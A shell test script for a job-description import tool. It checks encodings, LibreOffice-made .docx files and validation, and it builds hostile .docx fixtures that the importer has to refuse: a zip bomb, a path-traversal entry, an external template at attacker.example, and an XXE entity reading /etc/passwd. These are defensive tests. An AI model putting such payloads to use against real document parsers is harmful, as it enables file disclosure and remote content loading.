#!/bin/sh
# tests/check-import.sh — `rolebook import` (issue 13), every case a golden:
# the exact Markdown written (tests/import/expect/NAME.md) and the exact
# diagnostics (tests/import/expect/NAME.diag).
#   - plain text as HR types it (hr-admin.txt), and the same file saved with
#     a BOM (Notepad), as GBK with CRLF (WPS, Windows): the same Markdown;
#   - two job descriptions cut from ../shared/seeds/003 as they are
#     (seed-003-*.txt): every duty and qualification, in order; 百度文库's
#     mark in copied text taken out (seed-003-mark); lines of
#     seeds 002 and 001 with headings and items run together (seed-00[12]-*);
#     seed 000 as it is, a document-sharing page in traditional characters
#     with pinyin readings, and the same saved as GB18030; it checks once
#     所属部门 is added;
#   - Word files made as a user has them: LibreOffice (libreoffice-writer-
#     nogui) saves tests/import/*.html as .docx — headed (Word heading
#     styles, 一、 numbering, a bold heading), list-numbered (w:numPr) and
#     the one-table form (label cells, merged cells, several paragraphs in
#     a cell);
#   - the imported roles validate: imported into a copy of the sample
#     content, `rolebook check -Werror` passes on those that name a
#     department, and their canonical export holds every duty;
#   - hostile .docx files (made here with python3's zipfile): a zip bomb, a
#     part over the data-size limit, an entry climbing out of the archive,
#     an external relationship, a DOCTYPE, a file that is no zip: each
#     refused with its diagnostic while the other files still import,
#     and a Word 97-2003 .doc and a PDF, each told how to make a file import
#     reads,
#     exit 1; a document with no duties; an existing file without --force.
# Prints "import: N passed, N failed".
. "$(dirname "$0")/lib.sh"
rb=$top/${rb#./}
[ -x "$rb" ] || rb=$ROLEBOOK
fx=$top/tests/import
ex=$fx/expect
py=/usr/bin/python3
[ -x $py ] || py=python3

# golden NAME OUTFILE DIAGFILE: compares with expect/NAME.{md,diag}.
golden() {
	if cmp -s "$2" "$ex/$1.md"; then ok
	else ko "$1: Markdown differs: $(diff "$ex/$1.md" "$2" | head -8)"; fi
	if cmp -s "$3" "$ex/$1.diag"; then ok
	else ko "$1: diagnostics differ: $(diff "$ex/$1.diag" "$3" | head -8)"; fi
}

# imp NAME FILE ROLE: imports FILE (copied as NAME.ext into a fresh folder,
# so diagnostics name it alike) and compares roles/ROLE.md and stderr.
imp() {
	_d=$(mktemp -d "$tmp/i.XXXXXX")
	cp "$2" "$_d/$1.${2##*.}"
	(cd "$_d" && "$rb" import --into c "$1.${2##*.}") >"$_d/out" \
	    2>"$_d/diag"
	_rc=$?
	if [ $_rc -eq 0 ] && grep -q " -> roles/$3.md: " "$_d/out"; then ok
	else ko "$1: import exit $_rc: $(cat "$_d/out" "$_d/diag" | head -5)"; fi
	golden "$1" "$_d/c/roles/$3.md" "$_d/diag"
	last=$_d/c/roles/$3.md
}

# ---- plain text, BOM, GBK + CRLF
imp hr-admin "$fx/hr-admin.txt" 行政专员
printf '\357\273\277' >"$tmp/bom.txt"
cat "$fx/hr-admin.txt" >>"$tmp/bom.txt"
imp hr-admin "$tmp/bom.txt" 行政专员
sed 's/$/\r/' "$fx/hr-admin.txt" | iconv -f UTF-8 -t GBK >"$tmp/gbk.txt"
if ! iconv -f UTF-8 -t UTF-8 "$tmp/gbk.txt" >/dev/null 2>&1; then ok
else ko "the GBK fixture is valid UTF-8: not a test of detection"; fi
imp hr-admin "$tmp/gbk.txt" 行政专员

# ---- the seeds, cut one document per role
imp seed-003-senior "$fx/seed-003-senior.txt" 高级业务员
imp seed-003-salesperson "$fx/seed-003-salesperson.txt" 业务员
# Lines of seeds 002 and 001 as copied from a PDF: a heading inside a line
# after the section's text ("…负责。 二、权限: 1、…", "…工作; 上述职位任职
# 条件: 1、…") splits it there, nothing before it lost; items run
# together at a blank or a full stop ("目标 2. 作好…", "制度.2、保持…")
# are split where the next number follows.
imp seed-002-runon "$fx/seed-002-runon.txt" 区域业务员
imp seed-001-dots "$fx/seed-001-dots.txt" seed-001-dots
# Lines 305-313 of seed 003 as they are: 百度文库's mark in copied text
# (பைடு நூலகம், Tamil letters no CJK font has, so the PDF build stopped at
# them) taken out of duty 6 with a warning that names its line.
imp seed-003-mark "$fx/seed-003-mark.txt" seed-003-mark
if ! grep -q "$(printf '\340\256')" "$last"; then ok
else ko "seed-003-mark: Tamil letters left: $(grep -n "$(printf '\340\256')" "$last")"; fi
# Every numbered duty line of the cut is in the Markdown, in order.
for s in senior salesperson; do
	grep -o '[0-9][.、] [^:：]*' "$fx/seed-003-$s.txt" |
	    sed 's/^[0-9][.、] *//' >"$tmp/want-$s"
	grep -o '^\([0-9]*\.\|-\) [^:：]*' "$ex/seed-003-$s.md" |
	    sed 's/^\([0-9]*\.\|-\) //' >"$tmp/got-$s"
	n=$(wc -l <"$tmp/want-$s")
	if [ "$n" -ge 8 ] && diff "$tmp/want-$s" "$tmp/got-$s" >/dev/null; then ok
	else ko "seed-003-$s: items not all in order ($n): $(diff "$tmp/want-$s" "$tmp/got-$s" | head -4)"; fi
done

# ---- seed 000 as it is: a document-sharing page in traditional characters
# with pinyin readings (職責(zé)), the page's own lines (下載本文檔, 版權說明,
# 溫馨提示 …), preview pages numbered 1、…33、 and cut mid-sentence, headings
# run into their items (…崗位職責11、根據…;2、宣導…), several documents put
# together (【篇1:…】) repeating items word for word
imp seed-000-web "$fx/seed-000-web.txt" 保險公司房責險業務
seed0=$last
# the same saved as GB18030: the same Markdown and diagnostics
iconv -f UTF-8 -t GB18030 "$fx/seed-000-web.txt" >"$tmp/gb18030.txt"
if ! iconv -f UTF-8 -t UTF-8 "$tmp/gb18030.txt" >/dev/null 2>&1; then ok
else ko "the GB18030 fixture is valid UTF-8: not a test of detection"; fi
imp seed-000-web "$tmp/gb18030.txt" 保險公司房責險業務
# the warnings' advice followed (所属部门 added), it checks clean under
# -Werror, every duty and qualification of the Markdown exported
mkdir -p "$tmp/s0/roles"
cat >"$tmp/s0/org.xml" <<'XML'
<?xml version="1.0" encoding="UTF-8"?>
<org><company>保險公司</company><title>崗位說明書</title>
<version>1.0</version><effective>2026-01-01</effective>
<departments><department id="業務部" name="業務部"/></departments></org>
XML
sed '2a 所属部门: "業務部"' "$seed0" >"$tmp/s0/roles/seed0.md"
if "$rb" -Werror check "$tmp/s0" >"$tmp/s0.out" 2>&1; then ok
else ko "seed 000 with 所属部门 does not check: $(head -5 "$tmp/s0.out")"; fi
"$rb" export "$tmp/s0/roles/seed0.md" >"$tmp/s0.xml" 2>&1
nd=$(sed -n '/^## 工作职责/,/^## /p' "$seed0" | grep -c '^[0-9]*\. ')
nq=$(sed -n '/^## 任职资格/,/^## /p' "$seed0" | grep -c '^- ')
if [ "$nd" -ge 50 ] && [ "$(grep -o '<duty>' "$tmp/s0.xml" | wc -l)" = "$nd" ] &&
    [ "$nq" -ge 7 ] && [ "$(grep -o '<qualification[ >]' "$tmp/s0.xml" | wc -l)" = "$nq" ]; then ok
else ko "seed 000: $nd duties, $nq qualifications in the Markdown; export: $(grep -c '<duty>' "$tmp/s0.xml")"; fi
# nothing of the page's own lines or the readings is left
if ! grep -q '下載本文檔\|版權說明\|溫馨提示\|提交評論\|(zé)\|_第1頁' "$seed0"; then ok
else ko "seed 000: web page lines left: $(grep -n '下載本文檔\|版權說明\|溫馨提示\|提交評論\|(zé)\|_第1頁' "$seed0" | head -3)"; fi

# ---- Word files saved by LibreOffice
if command -v soffice >/dev/null 2>&1; then
	mkdir -p "$tmp/lo"
	soffice -env:UserInstallation=file://$tmp/lo-profile --headless \
	    --convert-to 'docx:MS Word 2007 XML' --outdir "$tmp/lo" \
	    "$fx/headed.html" "$fx/listed.html" "$fx/table.html" \
	    >"$tmp/lo.log" 2>&1
	for f in headed:设计师 listed:客服代表 table:行政专员; do
		n=${f%%:*}
		if [ -s "$tmp/lo/$n.docx" ]; then
			imp "docx-$n" "$tmp/lo/$n.docx" "${f#*:}"
		else ko "LibreOffice made no $n.docx: $(tail -3 "$tmp/lo.log")"; fi
	done
else
	ko "soffice missing (scripts/packages-test.txt: libreoffice-writer-nogui)"
fi

# ---- imported roles validate against the sample organisation
cp -R "$top/content" "$tmp/v"
rm -f "$tmp/v/roles/"*
cp "$top/content/roles/"*.md "$top/content/roles/"*.xml "$tmp/v/roles/"
for f in "$ex/hr-admin.md" "$ex/docx-table.md"; do
	cp "$f" "$tmp/v/roles/imported-$(basename "$f")"
done
if "$rb" -Werror check "$tmp/v" >"$tmp/v.out" 2>&1; then ok
else ko "imported roles do not validate: $(head -5 "$tmp/v.out")"; fi
"$rb" export "$tmp/v/roles/imported-docx-table.md" >"$tmp/v.xml" 2>&1
if [ "$(grep -c '<duty>' "$tmp/v.xml")" = 3 ] &&
    grep -q '<duty>办公用品和固定资产管理。</duty>' "$tmp/v.xml"; then ok
else ko "export of an imported role lost duties: $(head -12 "$tmp/v.xml")"; fi
# the （1） lines import writes under a duty are its sub-list
"$rb" export "$tmp/v/roles/imported-hr-admin.md" >"$tmp/v2.xml" 2>&1
if grep -q '<duty>负责会议通知、会议筹备等会务工作。<ol><li>会议室预订；</li><li>会议纪要。</li></ol></duty>' "$tmp/v2.xml"; then ok
else ko "export of an imported role lost a sub-list: $(head -12 "$tmp/v2.xml")"; fi

# ---- hostile and broken inputs: each refused, the others imported
h=$tmp/h
mkdir -p "$h"
$py - "$h" <<'PY'
import sys, zipfile
d = sys.argv[1]
ct = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
      'package/2006/content-types"/>')
doc = ('<?xml version="1.0"?><w:document xmlns:w="http://schemas.'
       'openxmlformats.org/wordprocessingml/2006/main"><w:body>'
       '<w:p><w:r><w:t>工作职责</w:t></w:r></w:p>'
       '<w:p><w:r><w:t>1、受理咨询。</w:t></w:r></w:p>'
       '</w:body></w:document>')
def mk(name, parts):
    with zipfile.ZipFile(f"{d}/{name}.docx", "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in parts:
            z.writestr(zipfile.ZipInfo(n, (2026, 1, 1, 0, 0, 0)), data,
                       zipfile.ZIP_DEFLATED)
mk("good", [("[Content_Types].xml", ct), ("word/document.xml", doc)])
mk("bomb", [("[Content_Types].xml", ct), ("word/document.xml",
    doc[:-len("</w:body></w:document>")] + " " * (12 << 20) +
    "</w:body></w:document>")])
mk("big", [("[Content_Types].xml", ct), ("word/document.xml",
    doc.replace("1、受理咨询。", "".join("%d、受理咨询第%d项。" % (i, i)
    for i in range(1, 90000))))])
mk("climb", [("[Content_Types].xml", ct), ("word/document.xml", doc),
    ("../../evil.sh", "echo pwned")])
mk("external", [("[Content_Types].xml", ct), ("word/document.xml", doc),
    ("word/_rels/document.xml.rels", '<?xml version="1.0"?><Relationships '
     'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
     '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
     'officeDocument/2006/relationships/attachedTemplate" Target='
     '"http://attacker.example/t.dotm" TargetMode="External"/>'
     '</Relationships>')])
mk("doctype", [("[Content_Types].xml", ct), ("word/document.xml",
    doc.replace('<?xml version="1.0"?>', '<?xml version="1.0"?><!DOCTYPE '
    'w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))])
mk("noduties", [("[Content_Types].xml", ct), ("word/document.xml",
    doc.replace("工作职责", "岗位名称：无职责"))])
open(f"{d}/notzip.docx", "w").write("这不是 zip 文件\n")
# what HR also has: a Word 97-2003 .doc (OLE2), a PDF
open(f"{d}/old.doc", "wb").write(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + bytes(504))
open(f"{d}/jd.pdf", "wb").write(b"%PDF-1.4\n%\xE2\xE3\xCF\xD3\n")
PY
(cd "$h" && "$rb" --limit data-size=1M import --into c good.docx bomb.docx \
    big.docx climb.docx external.docx doctype.docx notzip.docx \
    noduties.docx old.doc jd.pdf) >"$h/out" 2>"$h/diag"
rc=$?
if [ $rc -eq 1 ]; then ok; else ko "hostile files: exit $rc, want 1"; fi
if [ "$(cat "$h/out")" = "good.docx -> roles/good.md: 1 duties, 0 qualifications, 0 other sections" ] &&
    [ "$(ls "$h/c/roles")" = good.md ]; then ok
else ko "hostile files: the good one not alone imported: $(cat "$h/out"; ls "$h/c/roles")"; fi
if cmp -s "$h/diag" "$ex/hostile.diag"; then ok
else ko "hostile diagnostics differ: $(diff "$ex/hostile.diag" "$h/diag" | head -12)"; fi
[ -e "$h/evil.sh" ] || [ -e "$tmp/evil.sh" ] && ko "an entry was extracted"

# ---- an existing file is never replaced without --force
(cd "$h" && "$rb" import --into c good.docx) >/dev/null 2>"$h/again"
rc=$?
if [ $rc -eq 1 ] && grep -q 'c/roles/good.md already exists: import --force replaces it' "$h/again"; then ok
else ko "existing file: exit $rc: $(cat "$h/again")"; fi
echo "stale" >"$h/c/roles/good.md"
if (cd "$h" && "$rb" import --into c --force good.docx) >/dev/null 2>&1 &&
    grep -q '受理咨询' "$h/c/roles/good.md"; then ok
else ko "--force did not replace the file"; fi
# Two documents of one title in one run: the second gets a number.
cp "$fx/hr-admin.txt" "$h/a.txt"
cp "$fx/hr-admin.txt" "$h/b.txt"
(cd "$h" && "$rb" import --into d a.txt b.txt) >"$h/two" 2>&1
if grep -q 'b.txt -> roles/行政专员-2.md' "$h/two"; then ok
else ko "title clash: $(cat "$h/two")"; fi

# ---- an item of 20,000 continuation lines, a summary of 5,000
#      paragraphs: every line kept, in order (the text grows in place;
#      appending each line to a copy took 12.7 s, now 0.05 s; 9999 is the
#      largest item number, so 10000、 and on continue item 9999)
awk 'BEGIN { print "岗位概述"; for (i = 1; i <= 5000; i++) printf "概述第%d段。\n\n", i;
    print "岗位职责"; print "1、负责总的工作。";
    for (i = 1; i <= 20000; i++) printf "继续说明第%d行\n", i }' >"$h/long.txt"
(cd "$h" && "$rb" import --into long long.txt) >/dev/null 2>&1
if [ -f "$h/long/roles/long.md" ] &&
    [ "$(grep -c '^   继续说明第[0-9]*行$' "$h/long/roles/long.md")" = 20000 ] &&
    [ "$(grep -c '^概述第[0-9]*段。$' "$h/long/roles/long.md")" = 5000 ] &&
    grep '继续说明' "$h/long/roles/long.md" | sed 's/[^0-9]//g' |
    awk '$0 != NR { exit 1 }'; then ok
else ko "long item: $(grep -c '继续说明' "$h/long/roles/long.md" 2>&1)"; fi

echo "import: $pass passed, $fail failed"
[ "$fail" -eq 0 ]
